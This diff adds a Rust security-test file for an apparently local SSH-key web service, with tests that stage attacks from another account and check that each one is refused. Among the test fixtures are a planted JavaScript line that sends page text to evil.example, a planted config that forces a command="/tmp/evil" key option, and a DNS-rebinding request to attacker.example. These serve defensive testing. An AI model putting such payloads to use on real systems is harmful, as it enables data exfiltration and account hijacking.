@@ -1,0 +1,401 @@
+//! Local mode against an attacker with another account on the same node: each test mounts one
+//! attack on the real binary and shows it failing.
+
+use std::fs;
+use std::io::{Read, Write};
+use std::os::unix::net::UnixStream;
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::helpers::{self, Account, TOKEN, spawn_app, spawn_app_in, spawn_app_with};
+
+/// The session cookie a login link sets, as `name=value`.
+fn log_in(app: &helpers::App) -> String {
+    let login = app.get(&format!("/ssh-keys?token={TOKEN}"), &[]);
+    assert_eq!(login.status, 303, "{}", login.body);
+    let set = login.header("set-cookie").to_owned();
+    set.split(';').next().unwrap().to_owned()
+}
+
+#[test]
+fn the_cookie_a_page_on_another_port_collects_is_no_token_and_useless_elsewhere() {
+    let home = tempfile::tempdir().unwrap();
+    let app = spawn_app(home.path());
+    // What a browser sends with every request to 127.0.0.1, whatever the port: another
+    // account's server on 127.0.0.1:8888 collects exactly this.
+    let collected = log_in(&app);
+    let (name, value) = collected.split_once('=').unwrap();
+    assert_eq!(name, format!("keyhatch_session_{}", app.port));
+    assert!(!value.contains(TOKEN) && value.len() == 64, "{collected}");
+
+    let as_bearer = app.get(
+        "/api/keys/list",
+        &[("Authorization", &format!("Bearer {value}"))],
+    );
+    assert_eq!(as_bearer.status, 401, "a session id is not the token");
+
+    let stranger = Account::create();
+    let replayed = stranger.http(
+        app.port,
+        &format!("GET /api/keys/list HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {collected}\r\nConnection: close\r\n\r\n"),
+    );
+    assert!(replayed.starts_with("HTTP/1.1 403"), "{replayed}");
+
+    assert_eq!(
+        app.get("/api/keys/list", &[("Cookie", &collected)]).status,
+        200
+    );
+    let logout = app.post_form("/logout", &[("Cookie", &collected)]);
+    assert_eq!(logout.status, 200, "{}", logout.body);
+    assert!(logout.header("set-cookie").contains("Max-Age=0"));
+    assert_eq!(
+        app.get("/api/keys/list", &[("Cookie", &collected)]).status,
+        401,
+        "the session ended with Log out"
+    );
+}
+
+#[test]
+fn another_account_with_the_right_token_is_refused_on_tcp() {
+    let home = tempfile::tempdir().unwrap();
+    let app = spawn_app(home.path());
+    let stranger = Account::create();
+    let answer = stranger.http(
+        app.port,
+        "GET /api/keys/list HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer $KH_TOKEN\r\nConnection: close\r\n\r\n",
+    );
+    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
+    assert!(answer.contains("Not your keyhatch"), "{answer}");
+    assert_eq!(
+        app.get_authorized("/api/keys/list").status,
+        200,
+        "its own account passes"
+    );
+}
+
+#[test]
+fn requests_from_other_sites_and_foreign_hosts_are_refused() {
+    let home = tempfile::tempdir().unwrap();
+    let app = spawn_app(home.path());
+    let bearer = format!("Bearer {TOKEN}");
+    let generate = |headers: &[(&str, &str)], content_type: &str| {
+        let mut all = vec![
+            ("Authorization", bearer.as_str()),
+            ("Content-Type", content_type),
+        ];
+        all.extend_from_slice(headers);
+        app.post("/api/keys/generate", "{}", &all)
+    };
+    assert_eq!(generate(&[], "text/plain").status, 415, "a simple request");
+    assert_eq!(
+        generate(&[("Origin", "http://127.0.0.1:8888")], "application/json").status,
+        403
+    );
+    assert_eq!(
+        generate(&[("Sec-Fetch-Site", "same-site")], "application/json").status,
+        403
+    );
+    assert_eq!(
+        generate(&[("Origin", "null")], "application/json").status,
+        403
+    );
+    assert_eq!(
+        app.get_authorized("/api/keys/generate").status,
+        405,
+        "GET changes nothing"
+    );
+    let rebound = app.raw(&format!(
+        "GET /api/keys/list HTTP/1.1\r\nHost: attacker.example:{}\r\nAuthorization: {bearer}\r\nConnection: close\r\n\r\n",
+        app.port
+    ));
+    assert!(
+        rebound.starts_with("HTTP/1.1 403"),
+        "DNS rebinding: {rebound}"
+    );
+    assert!(!home.path().join(".ssh").exists(), "nothing was generated");
+
+    let same_origin = format!("http://127.0.0.1:{}", app.port);
+    let ok = generate(
+        &[("Origin", &same_origin), ("Sec-Fetch-Site", "same-origin")],
+        "application/json",
+    );
+    assert_eq!(ok.status, 200, "{}", ok.body);
+}
+
+#[test]
+fn every_answer_carries_the_security_headers_and_the_page_its_nonce() {
+    let home = tempfile::tempdir().unwrap();
+    let app = spawn_app(home.path());
+    let cookie = log_in(&app);
+    let page = app.get("/ssh-keys", &[("Cookie", &cookie)]);
+    let unauthorized = app.get("/ssh-keys", &[]);
+    let redirect = app.get("/", &[("Cookie", &cookie)]);
+    let api = app.get_authorized("/api/keys/list");
+    for (what, reply) in [
+        ("page", &page),
+        ("401", &unauthorized),
+        ("303", &redirect),
+        ("api", &api),
+    ] {
+        let csp = reply.header("content-security-policy");
+        for part in [
+            "default-src 'self'",
+            "'wasm-unsafe-eval'",
+            "object-src 'none'",
+            "base-uri 'none'",
+            "frame-ancestors 'none'",
+            "form-action 'self'",
+        ] {
+            assert!(csp.contains(part), "{what}: {csp}");
+        }
+        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{what}");
+        assert_eq!(reply.header("referrer-policy"), "same-origin", "{what}");
+        assert_eq!(reply.header("cache-control"), "no-store", "{what}");
+    }
+    let csp = page.header("content-security-policy");
+    let nonce = csp
+        .split("'nonce-")
+        .nth(1)
+        .and_then(|rest| rest.split('\'').next())
+        .expect("the page's policy has a nonce");
+    assert!(
+        page.body.contains(&format!("nonce=\"{nonce}\"")),
+        "{}",
+        page.body
+    );
+    let other = app.get("/ssh-keys", &[("Cookie", &cookie)]);
+    assert!(
+        !other.header("content-security-policy").contains(nonce),
+        "a nonce is used once"
+    );
+}
+
+#[test]
+fn settings_and_scripts_planted_in_the_working_directory_are_ignored() {
+    let home = tempfile::tempdir().unwrap();
+    let planted = tempfile::tempdir().unwrap();
+    let evil_token = "planted-token-0123456789abcdef-0123456789";
+    fs::write(
+        planted.path().join("Leptos.toml"),
+        format!(
+            "[keyhatch]\ntoken = \"{evil_token}\"\nkey-options = \"command=\\\"/tmp/evil\\\"\"\n"
+        ),
+    )
+    .unwrap();
+    fs::create_dir_all(planted.path().join("target/site/pkg")).unwrap();
+    let script = "fetch('http://evil.example/?k=' + document.body.innerText)";
+    fs::write(planted.path().join("target/site/pkg/keyhatch.js"), script).unwrap();
+    fs::create_dir_all(planted.path().join("site/pkg")).unwrap();
+    fs::write(planted.path().join("site/pkg/keyhatch.js"), script).unwrap();
+
+    let app = spawn_app_in(
+        home.path(),
+        planted.path(),
+        &[],
+        &[("KEYHATCH_TOKEN", TOKEN)],
+    );
+    let planted_login = app.get(&format!("/?token={evil_token}"), &[]);
+    assert_eq!(
+        planted_login.status, 401,
+        "the planted token does not log in"
+    );
+    let js = app.get_authorized("/pkg/keyhatch.js");
+    assert!(
+        !js.body.contains("evil.example"),
+        "the planted script was served"
+    );
+    let key = app.generate(None);
+    let line = fs::read_to_string(app.authorized_keys()).unwrap();
+    assert!(line.starts_with("restrict,pty ssh-ed25519 "), "{line}");
+    assert!(key["private_key"].is_string());
+}
+
+#[test]
+fn a_settings_file_another_account_can_write_is_refused_with_a_clear_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("keyhatch.toml");
+    fs::write(&config, "[keyhatch]\n").unwrap();
+    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
+    let output = Command::new(env!("CARGO_BIN_EXE_keyhatch"))
+        .arg("--config")
+        .arg(&config)
+        .args(["--addr", "127.0.0.1:0", "--home"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&output.stderr);
+    assert!(err.contains("group or others can write it"), "{err}");
+}
+
+#[test]
+fn a_short_token_a_remote_address_and_another_accounts_home_are_refused_at_start() {
+    let home = tempfile::tempdir().unwrap();
+    let run = |args: &[&str], env: &[(&str, &str)]| {
+        let output = Command::new(env!("CARGO_BIN_EXE_keyhatch"))
+            .args(args)
+            .env("KEYHATCH_TOKEN", TOKEN)
+            .envs(env.iter().copied())
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        assert_eq!(output.status.code(), Some(2), "{args:?} started");
+        String::from_utf8_lossy(&output.stderr).into_owned()
+    };
+    let home_arg = home.path().to_str().unwrap();
+    let err = run(&["--home", home_arg], &[("KEYHATCH_TOKEN", "short-token")]);
+    assert!(err.contains("at least 32"), "{err}");
+    let err = run(&["--home", home_arg, "--addr", "0.0.0.0:0"], &[]);
+    assert!(err.contains("--allow-remote"), "{err}");
+
+    let stranger = Account::create();
+    std::os::unix::fs::chown(home.path(), Some(stranger.uid), None).unwrap();
+    let err = run(&["--home", home_arg, "--addr", "127.0.0.1:0"], &[]);
+    assert!(
+        err.contains("site mode") && err.contains(&stranger.uid.to_string()),
+        "{err}"
+    );
+}
+
+#[test]
+fn a_lock_held_by_another_program_fails_generates_within_the_bound_and_lists_still_answer() {
+    let home = helpers::home_with(b"");
+    let app = spawn_app_with(home.path(), &[("KEYHATCH_LOCK_TIMEOUT", "1")]);
+    // Anyone who can read the file can take a shared lock on it.
+    let mut holder = Command::new("python3")
+        .args([
+            "-c",
+            "import fcntl,sys; f=open(sys.argv[1]); fcntl.lockf(f, fcntl.LOCK_SH); print('held', flush=True); sys.stdin.read()",
+        ])
+        .arg(app.authorized_keys())
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut held = [0u8; 5];
+    holder
+        .stdout
+        .as_mut()
+        .unwrap()
+        .read_exact(&mut held)
+        .unwrap();
+
+    let started = Instant::now();
+    let statuses: Vec<(u16, String)> = std::thread::scope(|s| {
+        let generates: Vec<_> = (0..50)
+            .map(|_| {
+                s.spawn(|| {
+                    let reply = app.post_json("/api/keys/generate", "{}");
+                    (reply.status, reply.body)
+                })
+            })
+            .collect();
+        let list = app.get_authorized("/api/keys/list");
+        assert_eq!(list.status, 200, "the list answers while the lock is held");
+        generates.into_iter().map(|g| g.join().unwrap()).collect()
+    });
+    let took = started.elapsed();
+    for (status, body) in &statuses {
+        assert_eq!(*status, 503, "{body}");
+        assert!(body.contains("locked by another program"), "{body}");
+        assert!(!body.contains("PRIVATE KEY"));
+    }
+    assert!(
+        took < Duration::from_secs(8),
+        "50 refusals took {took:?} with a 1 s bound"
+    );
+    assert_eq!(fs::read(app.authorized_keys()).unwrap(), b"");
+
+    holder.stdin.take().unwrap().write_all(b"done").unwrap();
+    holder.wait().unwrap();
+    app.generate(None);
+}
+
+#[test]
+fn the_unix_socket_is_private_and_serves_only_its_own_account() {
+    let home = tempfile::tempdir().unwrap();
+    let runtime = tempfile::tempdir().unwrap();
+    let socket = runtime.path().join("keyhatch.sock");
+    let app = helpers::spawn_socket_app(home.path(), &socket);
+    let meta = fs::metadata(&socket).unwrap();
+    assert_eq!(
+        std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777,
+        0o600
+    );
+    let own = over_socket(
+        &socket,
+        "GET /api/keys/list HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer TOKEN\r\nConnection: close\r\n\r\n",
+    );
+    assert!(own.starts_with("HTTP/1.1 200"), "{own}");
+
+    // Even with the socket opened up, SO_PEERCRED tells the other account apart.
+    fs::set_permissions(&socket, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
+    fs::set_permissions(
+        runtime.path(),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
+    let stranger = Account::create();
+    let answer = stranger.python(
+        "import socket,sys,os; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); \
+         s.sendall(('GET /api/keys/list HTTP/1.1\\r\\nHost: localhost\\r\\nAuthorization: Bearer '+os.environ['KH_TOKEN']+'\\r\\nConnection: close\\r\\n\\r\\n').encode()); \
+         print(s.recv(100).decode(errors='replace'))",
+        &[socket.to_str().unwrap()],
+    );
+    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
+    drop(app);
+}
+
+fn over_socket(socket: &std::path::Path, request: &str) -> String {
+    let mut stream = UnixStream::connect(socket).unwrap();
+    stream
+        .write_all(request.replace("TOKEN", TOKEN).as_bytes())
+        .unwrap();
+    let mut answer = String::new();
+    stream.read_to_string(&mut answer).unwrap();
+    answer
+}
+
+#[test]
+fn the_login_link_is_also_in_private_files_that_curl_can_use_and_a_stop_removes() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let home = tempfile::tempdir().unwrap();
+    let app = spawn_app(home.path());
+    let dir = app.runtime.path().join("keyhatch");
+    let url = dir.join(format!("login-{}.url", app.port));
+    let header = dir.join(format!("login-{}.header", app.port));
+    let mode = |p: &std::path::Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(
+        (mode(&dir), mode(&url), mode(&header)),
+        (0o700, 0o600, 0o600)
+    );
+    assert_eq!(
+        fs::read_to_string(&url).unwrap(),
+        format!("{}/?token={TOKEN}\n", app.base)
+    );
+    let listed = Command::new("curl")
+        .args(["-s", "-H"])
+        .arg(format!("@{}", header.display()))
+        .arg(format!("{}/api/keys/list", app.base))
+        .output()
+        .unwrap();
+    let listed = String::from_utf8_lossy(&listed.stdout);
+    assert!(listed.contains("\"keys\":[]"), "{listed}");
+
+    let runtime = app.stop();
+    assert!(
+        !runtime
+            .path()
+            .join("keyhatch")
+            .join(url.file_name().unwrap())
+            .exists()
+    );
+    assert!(
+        !runtime
+            .path()
+            .join("keyhatch")
+            .join(header.file_name().unwrap())
+            .exists()
+    );
+}
